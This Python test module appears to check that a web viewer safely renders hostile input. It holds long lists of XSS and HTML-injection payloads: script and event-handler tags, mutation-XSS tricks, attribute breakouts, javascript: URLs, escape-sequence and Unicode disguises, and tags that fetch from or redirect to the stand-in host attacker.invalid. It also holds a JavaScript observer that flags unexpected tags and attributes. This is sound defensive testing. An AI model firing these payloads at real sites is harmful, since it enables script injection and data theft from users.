"""Texts that have been used to make a page run, fetch or misread something; and who counts them."""

from __future__ import annotations

import html.parser
from typing import Any

RUN = "window.hacked=(window.hacked||0)+1"
MARKUP = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}//<</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>x</div>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<style><!--</style><img src=x onerror={RUN}>-->",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<title></title><img src=x onerror={RUN}>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<xmp></xmp><img src=x onerror={RUN}>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"</div></section></body><script>{RUN}</script>",
    f"<base href='https://attacker.invalid/'><link rel=stylesheet href='//attacker.invalid/{RUN}'>",
    "<img src='https://attacker.invalid/pixel'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.invalid/'>",
    "<style>@import 'https://attacker.invalid/x.css';</style>",
]
BREAKERS = [
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f"` onmouseover={RUN} x=`",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"');{RUN};//",
    "__proto__",
    "constructor",
]
THERE = "https://attacker.invalid"
REACHING = [  # html that would run something, fetch something or lead a page away
    f"<script>parent.hacked = top.hacked = 1; fetch('{THERE}/fetched')</script>",
    f"<script>location = '{THERE}/led'; top.location = '{THERE}/led/away'</script>",
    f"<img src='{THERE}/pixel'><img srcset='{THERE}/pixel2 1x'>",
    f"<link rel=stylesheet href='{THERE}/style.css'><link rel=prefetch href='{THERE}/later'>",
    f"<link rel=icon href='{THERE}/icon'><link rel=manifest href='{THERE}/manifest'>",
    f"<style>@import '{THERE}/x.css'; body {{ background: url({THERE}/ground) }}</style>",
    f"<style>@font-face {{font-family: f; src: url({THERE}/font)}} * {{font-family: f}}</style>f",
    f"<meta http-equiv=refresh content='0;url={THERE}/refreshed'>",
    f"<meta http-equiv=Content-Security-Policy content='default-src *'><img src={THERE}/policy>",
    f"<base href='{THERE}/'><img src=pixel><iframe src=frame></iframe>",
    f"<iframe src='{THERE}/frame'></iframe><object data='{THERE}/object'></object>",
    f"<iframe srcdoc=\"<script>top.hacked = 1; fetch('{THERE}/inner')</script>\"></iframe>",
    f"<embed src='{THERE}/embed'><video poster='{THERE}/poster' src='{THERE}/video'></video>",
    f"<audio src='{THERE}/audio' autoplay></audio><track src='{THERE}/track'>",
    f"<svg><image href='{THERE}/image'/><use href='{THERE}/use#x'/></svg>",
    f"<form action='{THERE}/form'><button autofocus></form><script>forms[0].submit()</script>",
    f"<input type=image src='{THERE}/input'><body background='{THERE}/body'>",
    f"</iframe><script>parent.hacked = 1</script><img src='{THERE}/out'>",
    f"\"></iframe><img src='{THERE}/quoted' onerror='top.hacked = 1'>",
    f"&quot;></iframe><img src='{THERE}/entity'>",
    f"</style></head><img src='{THERE}/style'><!--",
    f"<portal src='{THERE}/portal'></portal><frameset><frame src='{THERE}/frame'></frameset>",
    f"<template shadowrootmode=open><img src='{THERE}/shadow'></template>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{THERE}/s"]}}]}}</script>',
]
DISGUISES = [
    f"\x1b]8;;javascript:{RUN}\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b]0;<img src=x onerror={RUN}>\x07",
    f"\x1b[31m<img src=x onerror={RUN}>\x1b[0m",
    f"\x1bP<script>{RUN}</script>\x1b\\",
    f"<im\x00g src=x onerror={RUN}>",
    f"<\u200bscript>{RUN}</script>",
    f'\u202e>"{RUN}"=rorrEno x=crs gmi<',
    f"\u2067<img src=x onerror={RUN}>\u2069",
    "\u05d0\u05d1 <b>\u05d2</b>",
    f"\ufeff<script>{RUN}</script>",
    f"\r\n\r\n<script>{RUN}</script>",
    "\x00\x01\x02\x08\x7f\x9b31m",
    f"<img src=x onerror={RUN}>" * 400,
    "<b>" * 3_000,
]
PAYLOADS = [*MARKUP, *BREAKERS, *DISGUISES]


class Elements(html.parser.HTMLParser):
    """Every element of a piece of HTML, with the names of its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, Any]]) -> None:
        self.found.add((tag, tuple(name for name, _ in attrs)))


# Watches every view for what it never makes itself: tags, attributes, addresses.
GUARD = """() => {
  window.made = [];
  const PICTURE = new RegExp("^data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]*=?=?$" +
    "|^data:image/svg[+]xml;charset=utf-8,[a-zA-Z0-9_%.!~*'()-]*$");
  const POLICY = `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; ` +
    `img-src data:; style-src 'unsafe-inline'; font-src data:">`;
  const tags = new Set(`div span b button svg path p dl dt dd input label section table thead tbody
    tr th td pre img h3 h4 i iframe canvas select option`.split(/\\s+/));
  const check = (node) => {
    if (!(node instanceof Element)) return;
    if (!tags.has(node.localName)) made.push(node.outerHTML.slice(0, 200));
    for (const { name, value } of node.attributes) {
      const address = ["src", "href", "srcdoc", "action", "data", "xlink:href"].includes(name);
      const ours = (node.localName === "img" && name === "src" && PICTURE.test(value)) ||
        (node.localName === "iframe" && name === "srcdoc" && value.startsWith(POLICY) &&
          node.getAttribute("sandbox") === "" && !node.hasAttribute("src"));
      if (name.startsWith("on") || (address && !ours)) made.push(`${name}=${value}`.slice(0, 200));
    }
  };
  new MutationObserver((records) => {
    for (const { target, addedNodes } of records) {
      check(target);
      for (const node of addedNodes) {
        check(node);
        if (node instanceof Element) node.querySelectorAll("*").forEach(check);
      }
    }
  }).observe(document.querySelector(".jqw"), {
    subtree: true, childList: true, attributes: true,
  });
  document.querySelectorAll(".jqw *").forEach(check);
}"""
VERDICT = "() => ({ hacked: window.hacked ?? 0, made: window.made })"
